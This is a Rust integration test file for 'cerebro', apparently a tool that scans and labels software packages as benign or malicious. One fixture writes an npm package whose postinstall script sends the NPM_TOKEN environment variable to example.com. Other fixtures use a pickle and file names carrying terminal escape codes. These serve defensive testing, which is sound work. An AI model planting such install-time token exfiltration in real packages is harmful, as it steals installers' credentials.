//! The real binary, as a user or a script meets it: what it prints, where, and with which exit status.

use std::fs;
use std::path::Path;
use std::process::{Command, Output, Stdio};

use cerebro::behavior::ModelText;
use cerebro::ledger::{Label, Labelled, Ledger};
use cerebro::session::{About, LastPlace, Left, Session};
use rstest::rstest;
use serde_json::Value;
use tempfile::TempDir;

use crate::common::decision::decision;

/// The binary in a folder of its own, with no settings of whoever runs the tests.
fn cerebro(folder: &TempDir) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_cerebro"));
    command.current_dir(folder).env("XDG_DATA_HOME", folder.path().join("data")).stdin(Stdio::null());
    command.env("XDG_STATE_HOME", folder.path().join("state"));
    command.env("CEREBRO_CONFIG", folder.path());
    for name in ["CEREBRO_MODEL", "CEREBRO_LEDGER", "CEREBRO_ACTOR", "CEREBRO_LOG", "CEREBRO_SANDBOX"] {
        command.env_remove(name);
    }
    command
}

fn run(folder: &TempDir, args: &[&str]) -> Output {
    cerebro(folder).args(args).output().unwrap()
}

fn stdout(output: &Output) -> &str {
    std::str::from_utf8(&output.stdout).unwrap()
}

fn stderr(output: &Output) -> &str {
    std::str::from_utf8(&output.stderr).unwrap()
}

/// An error: status 2, nothing on stdout, one escaped line on stderr. Answers that line.
fn error(output: &Output) -> &str {
    assert_eq!(output.status.code(), Some(2), "{}", stderr(output));
    assert_eq!(stdout(output), "");
    let text = stderr(output);
    assert_eq!(text.lines().count(), 1, "{text}");
    assert!(!text.trim_end().contains(char::is_control), "{text:?}");
    text
}

/// A package that sends an environment variable away when it is installed.
fn sender(folder: &TempDir, name: &str) {
    let root = folder.path().join(name);
    fs::create_dir_all(&root).unwrap();
    let manifest = r#"{"name":"acme-sender","version":"1.2.3","scripts":{"postinstall":"node send.js"}}"#;
    fs::write(root.join("package.json"), manifest).unwrap();
    let code = "const https = require('https');\nhttps.get('https://example.com/?' + process.env.NPM_TOKEN);\n";
    fs::write(root.join("send.js"), code).unwrap();
}

#[test]
fn help_names_every_subcommand_and_exit_status() {
    let folder = TempDir::new().unwrap();
    let output = run(&folder, &["--help"]);
    assert_eq!(output.status.code(), Some(0));
    let help = stdout(&output);
    for word in [
        "scan",
        "sequence",
        "classify",
        "train",
        "eval",
        "queue",
        "export",
        "--model",
        "--device",
        "--ledger",
        "--password",
        "--sandbox",
    ] {
        assert!(help.contains(word), "{word} is missing in\n{help}");
    }
    let statuses = help.split("Exit status:").nth(1).unwrap();
    for status in ["  0  ", "  1  ", "  2  ", "  3  "] {
        assert!(statuses.contains(status), "{status} is missing in\n{statuses}");
    }
}

/// Without a terminal the start screen is a text; looking at it makes no ledger.
#[test]
fn alone_it_says_what_one_can_begin_with() {
    let folder = TempDir::new().unwrap();
    let output = run(&folder, &[]);
    assert_eq!((output.status.code(), stderr(&output)), (Some(0), ""));
    for word in ["cerebro PATH", "guided tour", "cerebro queue add PATH", "cerebro help"] {
        assert!(stdout(&output).contains(word), "{word} is missing in {}", stdout(&output));
    }
    assert!(!stdout(&output).contains("Continue"), "{}", stdout(&output));
    assert!(!folder.path().join("data").exists());
    assert!(error(&run(&folder, &["--against", "x"])).contains("goes with one package"));
    // The last cases, the newest first; the folder of states is the test's own.
    sender(&folder, "sender");
    let places = Session::at(folder.path().join("state/cerebro/places.json"));
    for (name, path) in
        [("acme-gone", "/nowhere/gone.tgz"), ("acme-sender", folder.path().join("sender").to_str().unwrap())]
    {
        let about = About { path: path.into(), name: name.into(), version: "1.2.3".into(), label: "benign".into() };
        let place = LastPlace::default();
        places.keep(Left { sha256: name.to_owned(), about: Some(about), place }).unwrap();
    }
    run(&folder, &["queue", "add", "sender"]);
    let output = run(&folder, &[]);
    let text = stdout(&output);
    assert!(text.contains("1 of 1 wait for a label"), "{text}");
    let (_, cases) = text.split_once("Continue where you were:\n").unwrap();
    let cases: Vec<&str> = cases.lines().collect();
    assert!(cases[0].contains("acme-sender 1.2.3") && cases[0].contains("benign") && cases[0].contains("cerebro /"));
    assert!(cases[1].contains("moved") && cases[1].ends_with("cerebro /nowhere/gone.tgz"), "{text}");
}

#[test]
fn a_word_is_a_subcommand_and_the_same_with_a_dot_is_a_path() {
    let folder = TempDir::new().unwrap();
    assert!(stderr(&run(&folder, &["scan"])).contains("<PATH>"), "the subcommand misses its argument");
    assert!(error(&run(&folder, &["./scan"])).contains("the workbench needs a terminal"), "it is opened as a package");
    assert!(error(&run(&folder, &["./scan", "export"])).contains("not both"));
}

#[rstest]
#[case::missing("missing.tgz")]
#[case::no_archive("notes.txt")]
#[case::damaged("half.zip")]
fn what_is_no_package_is_one_line_that_names_it(#[case] name: &str) {
    let folder = TempDir::new().unwrap();
    fs::write(folder.path().join("notes.txt"), "just notes\n").unwrap();
    fs::write(folder.path().join("half.zip"), b"PK\x03\x04\x14\0\0\0\x08\0").unwrap();
    let output = run(&folder, &["sequence", name]);
    assert!(error(&output).contains(name));
}

#[test]
fn a_hostile_path_cannot_act_on_the_terminal() {
    let folder = TempDir::new().unwrap();
    let output = run(&folder, &["sequence", "a\u{1b}[2J\u{202e}b.tgz"]);
    assert!(error(&output).contains("a␛[2J<U+202E>b.tgz"));
}

#[test]
fn sequence_prints_the_promised_object() {
    let folder = TempDir::new().unwrap();
    sender(&folder, "scan");
    let output = run(&folder, &["sequence", "./scan", "--format", "json"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let document: Value = serde_json::from_str(stdout(&output)).unwrap();
    let keys: Vec<&str> = document.as_object().unwrap().keys().map(String::as_str).collect();
    // Sorted: serde_json's map forgets the order.
    assert_eq!(
        keys,
        [
            "ecosystem",
            "evidence",
            "external",
            "indicators",
            "layers",
            "name",
            "schema",
            "skipped",
            "steps",
            "text",
            "version"
        ]
    );
    assert_eq!(document["schema"], "cerebro-sequence/1");
    assert_eq!((&document["ecosystem"], &document["name"]), (&"npm".into(), &"acme-sender".into()));

    let steps = document["steps"].as_array().unwrap();
    assert!(steps.iter().any(|step| step["feature"] == "D2"), "{steps:?}");
    let code = fs::read_to_string(folder.path().join("scan/send.js")).unwrap();
    for step in steps {
        let keys: Vec<&str> = step.as_object().unwrap().keys().map(String::as_str).collect();
        let expected =
            "call_path column count detail entry feature file flow guarded layer line matched phase phrase span";
        assert_eq!(keys.join(" "), expected);
        if step["file"].as_str().unwrap().ends_with("send.js") && step["layer"].is_null() {
            assert_eq!(step["phase"], "install");
            let (start, end) = (step["span"][0].as_u64().unwrap() as usize, step["span"][1].as_u64().unwrap() as usize);
            let before = &code[..start];
            assert!(start < end && end <= code.len());
            assert_eq!(step["line"].as_u64().unwrap() as usize, before.matches('\n').count() + 1, "{step}");
        }
    }
}

#[test]
fn sequence_as_text_is_grouped_by_entry_and_shows_the_place() {
    let folder = TempDir::new().unwrap();
    sender(&folder, "sender");
    let output = run(&folder, &["sequence", "sender"]);
    let text = stdout(&output);
    assert!(text.starts_with("acme-sender 1.2.3\n"), "{text}");
    assert!(text.contains("\ninstall: postinstall"), "{text}");
    assert!(text.lines().any(|line| line.contains("use network module call") && line.contains("send.js:2:")), "{text}");
}

#[test]
fn sequence_prints_the_text_of_a_layer() {
    let folder = TempDir::new().unwrap();
    let package = folder.path().join("frozen");
    fs::create_dir(&package).unwrap();
    fs::write(package.join("PKG-INFO"), "Metadata-Version: 2.1\nName: frozen\nVersion: 1.0\n").unwrap();
    // A pickle that calls print('\u{1b}[2J'), and a literal that nothing decodes.
    fs::write(package.join("model.pkl"), b"cbuiltins\nprint\n(S'\\x1b[2J'\ntR.").unwrap();
    let literal = cerebro::syntax::decode::to_base64(b"import os\n\tos.getcwd()\x1b");
    let readable = cerebro::syntax::decode::to_base64(b"import os\n\tos.getcwd()\n");
    fs::write(package.join("frozen.py"), format!("A = '{literal}'\nB = '{readable}'\n")).unwrap();
    let all = run(&folder, &["sequence", "frozen"]);
    let text = stdout(&all);
    let layers: Vec<&str> = text.lines().filter(|line| line.contains("  sha256 ")).collect();
    assert_eq!(layers.len(), 2, "{text}");
    assert!(layers[0].contains("pickle") && layers[0].ends_with("model.pkl"), "{text}");
    assert!(layers[1].ends_with("frozen.py  decoded here, not by the program's own call"), "{text}");
    let listing = run(&folder, &["sequence", "frozen", "--layer", "0"]);
    assert!(stdout(&listing).contains("print(") && !stdout(&listing).contains('\u{1b}'), "{}", stdout(&listing));
    assert_eq!(stdout(&run(&folder, &["sequence", "frozen", "--layer", "1"])), "import os\n\tos.getcwd()\n");
    assert!(error(&run(&folder, &["sequence", "frozen", "--layer", "2"])).contains("the package has 2"));
}

#[test]
fn scan_without_a_model_says_what_to_do() {
    let folder = TempDir::new().unwrap();
    sender(&folder, "sender");
    let output = run(&folder, &["scan", "sender", "--model", "no-such-model"]);
    assert!(error(&output).contains("no-such-model"));
}

/// Standard output whose reader is gone before the program starts.
fn closed_pipe() -> Stdio {
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    writer.into()
}

#[rstest]
#[case(&["sequence", "sender"])]
#[case(&["sequence", "sender", "--format", "json"])]
#[case(&["export", "--ledger", "ledger.sqlite"])]
#[case(&["export", "--ledger", "ledger.sqlite", "--format", "csv"])]
#[case(&["--help"])]
fn a_reader_that_went_away_is_no_error(#[case] args: &[&str]) {
    let folder = TempDir::new().unwrap();
    sender(&folder, "sender");
    labelled(&folder.path().join("ledger.sqlite"));
    let output = cerebro(&folder).args(args).stdout(closed_pipe()).output().unwrap();
    assert_eq!((output.status.code(), stderr(&output)), (Some(0), ""));
}

fn labelled(path: &Path) {
    let mut ledger = Ledger::open(path, "ann").unwrap();
    let decision = Labelled {
        filename: "acme.tgz".to_owned(),
        size: 9,
        name: "@acme/demo".to_owned(),
        version: "1.0.0".to_owned(),
        text: ModelText { text: "install url webhook".to_owned(), pieces: Vec::new() },
        ..decision("00ff", Label::Malicious)
    };
    ledger.label(decision).unwrap();
}

#[test]
fn export_reads_the_ledger_of_the_user_by_default() {
    let folder = TempDir::new().unwrap();
    labelled(&folder.path().join("data/cerebro/ledger.sqlite"));
    let output = run(&folder, &["export"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let lines: Vec<Value> = stdout(&output).lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(lines.len(), 1);
    assert_eq!((&lines[0]["label"], &lines[0]["label_id"]), (&"malicious".into(), &5.into()));
}

#[test]
fn export_of_a_missing_ledger_is_an_error_and_makes_none() {
    let folder = TempDir::new().unwrap();
    assert!(error(&run(&folder, &["export", "--ledger", "mistyped.sqlite"])).contains("mistyped.sqlite"));
    assert!(!folder.path().join("mistyped.sqlite").exists());
}

#[test]
fn export_to_a_file_replaces_it_whole_or_not_at_all() {
    let folder = TempDir::new().unwrap();
    let ledger = folder.path().join("ledger.sqlite");
    labelled(&ledger);
    let args = ["export", "--ledger", "ledger.sqlite", "--out", "set.csv", "--format", "csv"];
    let output = run(&folder, &args);
    assert_eq!((output.status.code(), stdout(&output)), (Some(0), ""));
    let table = fs::read_to_string(folder.path().join("set.csv")).unwrap();
    assert!(table.lines().nth(1).unwrap().contains(",'@acme/demo,"), "{table}");

    let to_stdout = run(&folder, &["export", "--ledger", "ledger.sqlite", "--out", "-", "--format", "csv"]);
    assert_eq!(stdout(&to_stdout), table);
    assert!(!folder.path().join("-").exists());

    let connection = rusqlite::Connection::open(&ledger).unwrap();
    connection.execute_batch("DROP TRIGGER event_is_never_changed; UPDATE event SET hash = 'x'").unwrap();
    assert!(error(&run(&folder, &args)).contains("event 1"));
    assert_eq!(fs::read_to_string(folder.path().join("set.csv")).unwrap(), table);
    assert!(!folder.path().join("set.csv.partial").exists());
}

#[test]
fn formulas_are_kept_only_on_request() {
    let folder = TempDir::new().unwrap();
    labelled(&folder.path().join("ledger.sqlite"));
    let output = run(&folder, &["export", "--ledger", "ledger.sqlite", "--format", "csv", "--keep-formulas"]);
    assert!(stdout(&output).lines().nth(1).unwrap().contains(",@acme/demo,"));
}

#[test]
fn the_queue_is_filled_listed_and_emptied() {
    let folder = TempDir::new().unwrap();
    for name in ["in/one", "in/two", "fed"] {
        sender(&folder, name);
    }
    let manifest = r#"{"name":"acme-other","version":"0.1.0"}"#;
    fs::write(folder.path().join("fed/package.json"), manifest).unwrap();
    fs::write(folder.path().join("in/notes.txt"), "just notes\n").unwrap();
    fs::write(folder.path().join("in/half.zip"), b"PK\x03\x04\x14\0\0\0\x08\0").unwrap();
    let feed = "{\"path\":\"fed\",\"published\":\"2026-01-02T03:04:05Z\",\"source\":\"new \u{202e}\"}\n{\"path\":\"gone.tgz\"}\n{\"name\":\"x\"}\n";
    fs::write(folder.path().join("feed.jsonl"), feed).unwrap();
    assert!(error(&run(&folder, &["queue", "list"])).contains("there is no ledger"));
    assert!(error(&run(&folder, &["queue", "list", "--config", "nowhere"])).contains("no such folder"));

    let added = run(&folder, &["queue", "add", "in", "feed.jsonl"]);
    assert_eq!(added.status.code(), Some(3), "{}", stderr(&added));
    assert_eq!(stdout(&added), "4 added (1 of them cannot be read), 0 already there, 1 not packages, 2 not read\n");
    let said = stderr(&added);
    assert!(said.contains("notes.txt is not a package"), "{said}");
    assert!(said.contains("not read: feed.jsonl: line 2: cannot read gone.tgz"), "{said}");
    assert!(said.contains("not read: feed.jsonl: line 3: path is missing"), "{said}");
    let again = run(&folder, &["queue", "add", "in"]);
    assert_eq!(stdout(&again), "0 added, 3 already there, 1 not packages\n");

    // What is named by itself is meant, and what a feed says of it is checked also where it waits already.
    fs::write(folder.path().join("junk.tgz"), b"junk").unwrap();
    fs::write(folder.path().join("empty.tgz"), b"").unwrap();
    fs::write(folder.path().join("more.jsonl"), format!("{{\"path\":\"fed\",\"sha256\":\"{}\"}}\n", "0".repeat(64)))
        .unwrap();
    let named = run(&folder, &["queue", "add", "junk.tgz", "empty.tgz", "more.jsonl"]);
    assert_eq!(
        (named.status.code(), stdout(&named)),
        (Some(3), "0 added, 0 already there, 0 not packages, 3 not read\n")
    );
    let said = stderr(&named);
    assert!(said.contains("junk.tgz is not a package") && said.contains("empty.tgz is not a package"), "{said}");
    assert!(said.contains("not read: more.jsonl: line 1: ") && said.contains("its SHA-256 is"), "{said}");

    let list = run(&folder, &["queue", "list", "--format", "json", "--order", "age"]);
    assert!(stdout(&list).is_ascii());
    let document: Value = serde_json::from_str(stdout(&list)).unwrap();
    assert_eq!(document["schema"], "cerebro-queue/1");
    let items = document["items"].as_array().unwrap();
    assert_eq!(items.len(), 4);
    assert_eq!((&items[0]["name"], &items[0]["source"]), (&Value::from("acme-other"), &Value::from("new \u{202e}")));
    let half = items.iter().find(|item| item["path"].as_str().unwrap().ends_with("half.zip")).unwrap();
    assert!(half["error"].as_str().unwrap().contains("damaged"));
    // The same folder twice: one group, whatever the order.
    let twins: Vec<&Value> = items.iter().filter(|item| item["name"] == "acme-sender").collect();
    assert_eq!((&twins[0]["rank"], &twins[0]["group"]), (&twins[1]["rank"], &Value::from(2)));

    let table = run(&folder, &["queue", "list"]);
    assert!(
        stdout(&table).contains("4 in the queue: 0 labelled, 0 read, 1 cannot be read; near-duplicates of others: 1")
    );
    let one = folder.path().join("in/one").canonicalize().unwrap();
    let removed = run(&folder, &["queue", "remove", one.to_str().unwrap(), "in/half.zip", "elsewhere"]);
    assert_eq!(stdout(&removed), "2 removed, 1 were not in the queue\n", "{}", stderr(&removed));
    assert_eq!(removed.status.code(), Some(3));
    assert!(stderr(&removed).contains("not in the queue: elsewhere"), "{}", stderr(&removed));
    assert!(error(&run(&folder, &["queue"])).contains("the workbench needs a terminal"));
}

#[test]
fn wrong_keys_are_a_warning_where_there_is_no_screen_and_wrong_settings_an_error() {
    let folder = TempDir::new().unwrap();
    sender(&folder, "one");
    let config = folder.path().join("config.toml");
    fs::write(&config, "[keys.anywhere]\nf12 = \"qiut\"\nctrl-ctrl = \"quit\"\n").unwrap();
    let output = run(&folder, &["sequence", "one"]);
    assert_eq!(output.status.code(), Some(0));
    assert!(stdout(&output).contains("send"), "{}", stdout(&output));
    let said: Vec<&str> = stderr(&output).lines().collect();
    assert_eq!(said.len(), 2, "{said:?}");
    assert!(said[0].starts_with("cerebro: warning: ") && said[0].contains("config.toml:2: "), "{said:?}");
    assert!(said[1].contains("config.toml:3: "), "{said:?}");
    fs::write(&config, "mous = true\n[keys.anywhere]\nf12 = \"qiut\"\n").unwrap();
    let output = run(&folder, &["sequence", "one"]);
    assert_eq!((output.status.code(), stdout(&output)), (Some(2), ""));
    let said: Vec<&str> = stderr(&output).lines().collect();
    assert!(said.len() == 2 && said[0].contains("config.toml:1: ") && said[1].contains("config.toml:3: "), "{said:?}");
}
